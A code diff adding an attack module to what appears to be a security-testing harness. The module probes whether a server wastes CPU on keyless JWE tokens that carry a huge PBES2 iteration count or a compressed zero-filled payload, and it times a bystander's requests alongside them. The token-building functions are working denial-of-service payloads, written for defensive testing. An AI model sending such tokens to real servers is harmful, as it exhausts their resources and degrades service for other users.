@@ -1,0 +1,100 @@
+import { deflateRawSync } from 'node:zlib';
+import type { Attack, Judgement } from '../../kinds/attack.ts';
+import { median } from '../../kit/evidence/median.ts';
+import { together } from '../../kit/evidence/together.ts';
+import { encode } from '../../kit/tokens/compact-token.ts';
+import { statesClaims, withAccessToken } from '../../kit/tokens/presented-token.ts';
+import type { Reply } from '../../stage.ts';
+
+type Seen = {
+  readonly genuineMs: number;
+  /** Median time of an answer to a costly token, and the status that it got. */
+  readonly costlyMs: number;
+  readonly statuses: readonly number[];
+  readonly accepted: number;
+  /** The slowest answer to a bystander, without and beside costly tokens. */
+  readonly bystanderMs: { readonly alone: number; readonly beside: number };
+};
+
+/** What an answer may cost more than one to a genuine token. Derivation as asked takes more than half a second. */
+const allowedMs = 300;
+const rounds = 5;
+
+export default {
+  kind: 'attack',
+  id: 'jwe-cost',
+  title: 'Tokens that are costly to refuse',
+  question: 'Can a token without any key make the server work for long?',
+  goal: 'Keep the server busy with requests that cost the sender nothing.',
+  precondition: 'none',
+  severity: 'medium',
+  references: ['CWE-400', 'CWE-409', 'CVE-2023-51774', 'RFC 7518 §8.1', 'RFC 7516 §4.1.3'],
+  steps: [
+    'He sends encrypted tokens whose key would have to be derived with 1,500,000 rounds of PBKDF2, and ones whose 10 MB of zeros are packed into some kilobytes.',
+    'Beside them a bystander asks who he is. The times of all answers are compared with those of genuine tokens.',
+  ],
+  controls: ['jwe-unbounded'],
+  needs: { alone: 'process', optIn: 'cpu' },
+  appliesTo: statesClaims,
+  expected: () => 'blocked',
+
+  async attempt(stage) {
+    const held = await stage.signIn(stage.attacker);
+    const bystander = await stage.signIn(stage.user(3));
+    const timed = async (as = held) => (await stage.perform('me', { as })).ms;
+    const genuine: number[] = [];
+    const alone: number[] = [];
+    for (let round = 0; round < rounds; round += 1) {
+      genuine.push(await timed());
+      alone.push(await timed(bystander));
+    }
+    const costly = [derivation(), derivation(), bomb()].map((token) => withAccessToken(held, token));
+    const replies: Reply[] = [];
+    const beside: number[] = [];
+    for (let round = 0; round < rounds; round += 1) {
+      const [answers, waited] = await together(
+        together(...costly.map((as) => stage.perform('me', { as }))),
+        timed(bystander),
+      );
+      beside.push(waited);
+      replies.push(...answers);
+      // Once it is plain that the server obeys, more of it would only burden whoever else uses the machine.
+      if (median(replies.map(({ ms }) => ms)) > 3 * allowedMs) break;
+    }
+    return {
+      genuineMs: Math.round(median(genuine)),
+      costlyMs: Math.round(median(replies.map(({ ms }) => ms))),
+      statuses: [...new Set(replies.map(({ status }) => status))],
+      accepted: replies.filter(({ subject }) => subject !== undefined).length,
+      bystanderMs: { alone: Math.round(Math.max(...alone)), beside: Math.round(Math.max(...beside)) },
+    };
+  },
+
+  judge({ genuineMs, costlyMs, statuses, accepted, bystanderMs }): Judgement {
+    const because = `an answer to a costly token took ${costlyMs} ms, to a genuine one ${genuineMs} ms (medians); a bystander waited ${bystanderMs.beside} ms at most beside them, ${bystanderMs.alone} ms without`;
+    if (accepted > 0) return { outcome: 'succeeded', because: `${accepted} tokens without a key were believed` };
+    if (costlyMs > genuineMs * 5 + allowedMs) return { outcome: 'succeeded', because };
+    if (statuses.includes(0)) return { outcome: 'inconclusive', because: 'a request had no answer' };
+    if (statuses.some((status) => status >= 500)) return { outcome: 'blocked-by-crash', because };
+    return { outcome: 'blocked', because };
+  },
+} satisfies Attack<Seen>;
+
+/** RFC 7518 §4.8: the sender says how often the receiver hashes. Nothing else of the token needs to be right. */
+function derivation(): string {
+  const header = { alg: 'PBES2-HS256+A128KW', enc: 'A128GCM', p2c: 1_500_000, p2s: encode('salt salt') };
+  return encrypted(header, Buffer.alloc(24), Buffer.from('ciphertext'));
+}
+
+function bomb(): string {
+  return encrypted(
+    { alg: 'dir', enc: 'A128GCM', zip: 'DEF' },
+    Buffer.alloc(0),
+    deflateRawSync(Buffer.alloc(5_000_000)),
+  );
+}
+
+function encrypted(header: Record<string, unknown>, key: Buffer, ciphertext: Buffer): string {
+  const parts = [key, Buffer.alloc(12), ciphertext, Buffer.alloc(16)].map((part) => part.toString('base64url'));
+  return [encode(JSON.stringify(header)), ...parts].join('.');
+}
